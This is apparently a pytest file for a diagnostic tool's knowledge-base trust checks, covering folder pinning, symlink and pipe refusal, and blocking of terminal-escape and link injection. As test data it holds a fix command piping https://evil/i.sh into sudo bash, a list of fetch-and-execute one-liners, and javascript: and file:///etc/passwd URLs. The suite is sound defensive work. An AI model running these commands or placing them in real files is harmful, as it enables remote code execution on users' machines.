"""Knowledge that others wrote: what counts only when it is trusted, what never replaces ours in silence, and what is never opened."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from kb import fetching, files, invisible, trust, yamldoc
from kb.build import build
from kb.knowledge import Knowledge, load
from kb.layers import Layer
from kb.problems import Problem

LOG = "ImportError: libhccl.so: cannot open shared object file: No such file or directory\n"
ENTRY = """\
code: {code}
severity: error
kind: user-code
confidence: high
title: {{en: Mine, zh: 我的}}
cause: {{en: Mine., zh: 我的。}}
evidence: {{any: [{{regex: 'libhccl\\.so: (?P<what>.{{1,40}}) file'}}]}}
fixes: [{{goal: resolve, title: {{en: x, zh: 改}}, commands: [{{run: "curl https://evil/i.sh | sudo bash"}}]}}]
references: [{{title: me}}]
"""


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory with knowledge in it, and a home of its own."""
    folder = tmp_path / "work" / ".npu-doctor" / "kb"
    folder.mkdir(parents=True)
    (folder / "env001_mine.yaml").write_text(ENTRY.format(code="USR001"))
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return folder


def command(run: Any, place: Path, *words: str, stdin: str = LOG) -> Any:
    return run(*words, stdin=stdin.encode(), cwd=place.parents[1], NPU_DOCTOR_LANG="en")


def test_knowledge_of_the_working_directory_counts_when_it_is_trusted(run, place: Path) -> None:  # type: ignore[no-untyped-def]
    """One line says that it is there; `kb trust` pins it as it is; what changes is asked about again; it can be forgotten."""

    def found() -> tuple[set[str], bytes]:
        done = command(run, place, "scan", "-", "-f", "json")
        return {f["id"] for f in json.loads(done.stdout)["findings"]}, done.stderr

    ids, told = found()
    assert "USR001" not in ids
    assert told.count(b"kb trust .npu-doctor/kb") == 1
    done = command(run, place, "kb", "trust", ".npu-doctor/kb")
    assert done.returncode == 0
    assert b"executes it unseen: curl https://evil/i.sh" in done.stdout
    ids, told = found()
    assert "USR001" in ids
    assert b"kb trust" not in told
    (place / "more.yaml").write_text(ENTRY.format(code="USR002"))
    ids, told = found()
    assert "USR001" not in ids
    assert b"it has changed since it was trusted" in told
    assert command(run, place, "kb", "trust", ".").returncode == 0  # the checkout itself may be named
    assert {"USR001", "USR002"} <= found()[0]
    assert command(run, place, "kb", "trust", ".npu-doctor/kb", "--forget").returncode == 0
    assert "USR001" not in found()[0]
    assert command(run, place, "kb", "trust", "nowhere").returncode == 2


def test_the_list_of_trusted_folders_may_be_damaged(place: Path) -> None:
    """Then nothing is trusted, and trusting works."""
    kept = trust.state_file()
    assert kept is not None
    kept.parent.mkdir(parents=True)
    for text in ("", "[]", '{"folders": []}', '{"folders": {"x": 1}}', "[" * 100_000):
        kept.write_text(text)
        assert trust.look(place)[0] == "unknown"
    assert trust.pin(place, trust.fingerprint(place))
    assert trust.look(place)[0] == "trusted"


def test_trust_follows_contents_and_names(place: Path) -> None:
    first = trust.fingerprint(place)
    (place / "env001_mine.yaml").rename(place / "env002_mine.yaml")
    second = trust.fingerprint(place)
    (place / "layer.yaml").write_text("overrides: [ENV001]\n")
    third = trust.fingerprint(place)
    (place / "codes").mkdir()
    (place / "codes" / "x.yaml").write_text("family: acl\n")
    assert len({first.whole, second.whole, third.whole, trust.fingerprint(place).whole}) == 4


@pytest.mark.parametrize("form", ["text", "json", "jsonl", "md", "html", "sarif", "junit", "github"])
def test_every_format_says_whose_knowledge_it_is(run, place: Path, form: str) -> None:  # type: ignore[no-untyped-def]
    done = command(run, place, "scan", "-", "-f", form, "--kb", str(place), "--lang", "en")
    told = " ".join(done.stdout.decode().replace("\\[", "[").replace("%3A", ":").split())
    assert "Mine [knowledge: " in told


def test_an_explanation_says_whose_knowledge_it_is(run, place: Path) -> None:  # type: ignore[no-untyped-def]
    assert "[知识来源：" in command(run, place, "explain", "USR001", "--kb", str(place), "--lang", "zh").stdout.decode()


def test_nothing_built_in_is_replaced_in_silence(run, place: Path) -> None:  # type: ignore[no-untyped-def]
    """An entry with a built-in code is refused with a reason, unless the folder says that it overrides, and then that is shown."""
    (place / "env001_mine.yaml").write_text(ENTRY.format(code="ENV001"))
    done = command(run, place, "scan", "-", "-f", "json", "--kb", str(place))
    assert b"the code ENV001 is built in" in done.stderr
    first = json.loads(done.stdout)["findings"][0]
    assert (first["id"], "layer" in first) == ("ENV001", False)
    assert "evil" not in done.stdout.decode()
    (place / "layer.yaml").write_text("overrides: [ENV001]\n")
    done = command(run, place, "scan", "-", "-f", "json", "--kb", str(place))
    first = json.loads(done.stdout)["findings"][0]
    assert (first["layer"], first["replaces"]) == (str(place), True)
    assert "instead of the built-in entry" in first["title"]["en"]
    assert b"instead of the built-in entry" in command(run, place, "explain", "ENV001", "--kb", str(place)).stdout


def test_variables_and_cards_are_not_replaced_either(place: Path) -> None:
    known = load()
    name = known.variables()[0]
    (place / "envvars.yaml").write_text(f"- {{name: {name}, title: {{en: evil, zh: 坏}}, component: x, effect: {{en: evil, zh: 坏}}}}\n")
    assert load((str(place),)).variable(name) == known.variable(name)


def test_only_regular_files_inside_the_folder_are_opened(place: Path, tmp_path: Path) -> None:
    """Links that lead out, pipes, devices, loops: each is named, and none is waited for or quoted."""
    secret = tmp_path / "secret"
    secret.write_text("root: swordfish: [\n")
    (place / "a_secret.yaml").symlink_to(secret)
    (place / "b_loop.yaml").symlink_to(place / "b_loop.yaml")
    os.mkfifo(place / "c_pipe.yaml")
    (place / "d_zero.yaml").symlink_to("/dev/zero")
    (place / "e_folder.yaml").mkdir()
    (place / "codes").symlink_to("/etc")
    (place / "facts.yaml").symlink_to(secret)
    (place / "f_inside.yaml").symlink_to(place / "env001_mine.yaml")
    with (place / "g_large.yaml").open("w") as file:
        file.truncate(files.MAX_BYTES + 1)
    data, problems = build(Layer("project", place))
    told = "\n".join(map(str, problems))
    assert "swordfish" not in told
    assert {Path(p.path).name for p in problems} == {"a_secret.yaml", "b_loop.yaml", "c_pipe.yaml", "d_zero.yaml", "e_folder.yaml", "facts.yaml", "g_large.yaml", "f_inside.yaml"}
    assert data


@pytest.mark.parametrize("text", ["-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz: [\n", "root:x:0:0\n\tdaemon: [\n", "TOKEN=swordfish: {\n"])
def test_what_is_no_mapping_is_not_quoted(text: str) -> None:
    found = yamldoc.parse("x.yaml", text.encode())
    if isinstance(found, Problem):
        assert found.excerpt == ""
    assert yamldoc.parse("x.yaml", b"code: a: b\n").excerpt  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("run", "expected"),
    [
        ("curl -fsSL https://x/i.sh | sudo bash", True), ("wget -qO- https://x | python3 -", True), ("bash <(curl -s https://x)", True),
        ('eval "$(curl https://x)"', True), ("curl -O https://x/i.sh && chmod +x i.sh && ./i.sh", True), ("echo aGk= | base64 -d | sh", True),
        ("curl -I https://x | head -3", False), ("pip install x", False), ("wget https://x/cann.run", False), ("curl https://x | python3 -m json.tool", True),
    ],
)  # fmt: skip
def test_commands_that_execute_what_they_fetch(run: str, expected: bool) -> None:
    assert fetching.executes_what_it_fetches(run) is expected


def test_references_lead_to_the_web_alone(place: Path) -> None:
    for url in ("javascript:alert(1)", "file:///etc/passwd", "https://x/) [click](javascript:x", "https://x/\x1b[31m", "ftp://x"):
        (place / "env001_mine.yaml").write_text(ENTRY.format(code="USR001").replace("{title: me}", f"{{title: me, url: {json.dumps(url)}}}"))
        assert any("leads to a web page" in str(p) for p in build(Layer("project", place))[1])


EVIL = ENTRY.format(code="USR001").replace("Mine", "Evil")


def test_what_is_exchanged_after_it_was_looked_at_is_not_read(place: Path, knowledge: Knowledge, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Between the look and the reading, by somebody who then puts the old file back: the other one is refused, and not kept."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    one, look = place / "env001_mine.yaml", trust.look
    mine = one.read_bytes()
    trust.pin(place, trust.fingerprint(place))

    def exchanged(folder: Path) -> Any:
        found = look(folder)
        one.write_text(EVIL)
        return found

    monkeypatch.setattr(trust, "look", exchanged)
    known = load(built_in=knowledge.packs[0])
    assert known.entry("USR001") is None
    assert [problem.what for problem in known.problems] == ["cannot be read: it has changed since it was trusted"]
    one.write_bytes(mine)
    monkeypatch.setattr(trust, "look", look)
    entry = load(built_in=knowledge.packs[0]).entry("USR001")
    assert entry is not None
    assert entry.title.en == "Mine"


def test_what_was_compiled_of_another_file_of_that_size_and_time_is_not_used(place: Path, knowledge: Knowledge, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Whoever packs an archive chooses both."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    one = place / "env001_mine.yaml"
    for text, title in ((EVIL, "Evil"), (ENTRY.format(code="USR001"), "Mine")):
        one.write_text(text)
        os.utime(one, ns=(1, 1))
        trust.pin(place, trust.fingerprint(place))
        entry = load(built_in=knowledge.packs[0]).entry("USR001")
        assert entry is not None
        assert entry.title.en == title


STEERS = 'a\\e]0;owned\\a\\x9b\\u202eb\\n::error::pwned'
TEXTS = f'{{en: "{STEERS}", zh: "{STEERS}"}}'


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("cards/c.yaml", f"- {{code: CARD9, title: {TEXTS}, text: {TEXTS}}}\n"),
        ("cards/c.yaml", f'- {{code: CARD9, title: {{en: a, zh: b}}, text: {{en: a, zh: b}}, keywords: ["{STEERS}"]}}\n'),
        ("cards/c.yaml", "- {code: CARD9, title: {en: a, zh: b}, text: {en: a, zh: b}, references: [{title: x, url: 'javascript:alert(1)'}]}\n"),
        ("envvars.yaml", f'- {{name: MINE, purpose: "{STEERS}"}}\n'),
        ("codes/c.yaml", f'family: f\ntitle: {{en: a, zh: b}}\ncodes: [{{code: "1", meaning: {{en: a, zh: b}}, "{STEERS}": x}}]\n'),
        ("codes/c.yaml", f'family: f\ntitle: {TEXTS}\ncodes: [{{code: "1", meaning: {{en: a, zh: b}}}}]\n'),
        ("codes/c.yaml", f'family: "{STEERS}"\ncodes: [{{code: "1", meaning: {{en: a, zh: b}}}}]\n'),
        ("codes/c.yaml", 'family: f\ntitle: [a]\ncodes: [{code: "1", meaning: {en: a, zh: b}}]\n'),
        ("compat.yaml", f'torch_npu: [{{torch_npu: "{STEERS}", torch: "1", cann: "1", confidence: inferred, source: x}}]\n'),
        ("usr002_x.yaml", ENTRY.format(code="USR002") + f'applies_to: {{cann: "{STEERS}"}}\n'),
        ("usr002_x.yaml", ENTRY.format(code="USR002") + f'"{STEERS}": 1\n'),
    ],
)
def test_no_knowledge_steers_a_terminal(name: str, text: str, place: Path) -> None:
    """Of whatever kind it is: the row is refused, and what is said of it is safe to print."""
    (place / name).parent.mkdir(exist_ok=True)
    (place / name).write_text(text)
    data, problems = build(Layer("mine", place))
    assert len(problems) == 1
    assert invisible.STEERING.search(str(problems[0]).replace("\n", "")) is None
    assert all(row.startswith(("error: ", "  --> ", "   |  ", " = help: ")) for row in str(problems[0]).split("\n"))
    assert b"owned" not in data
    assert b"javascript" not in data
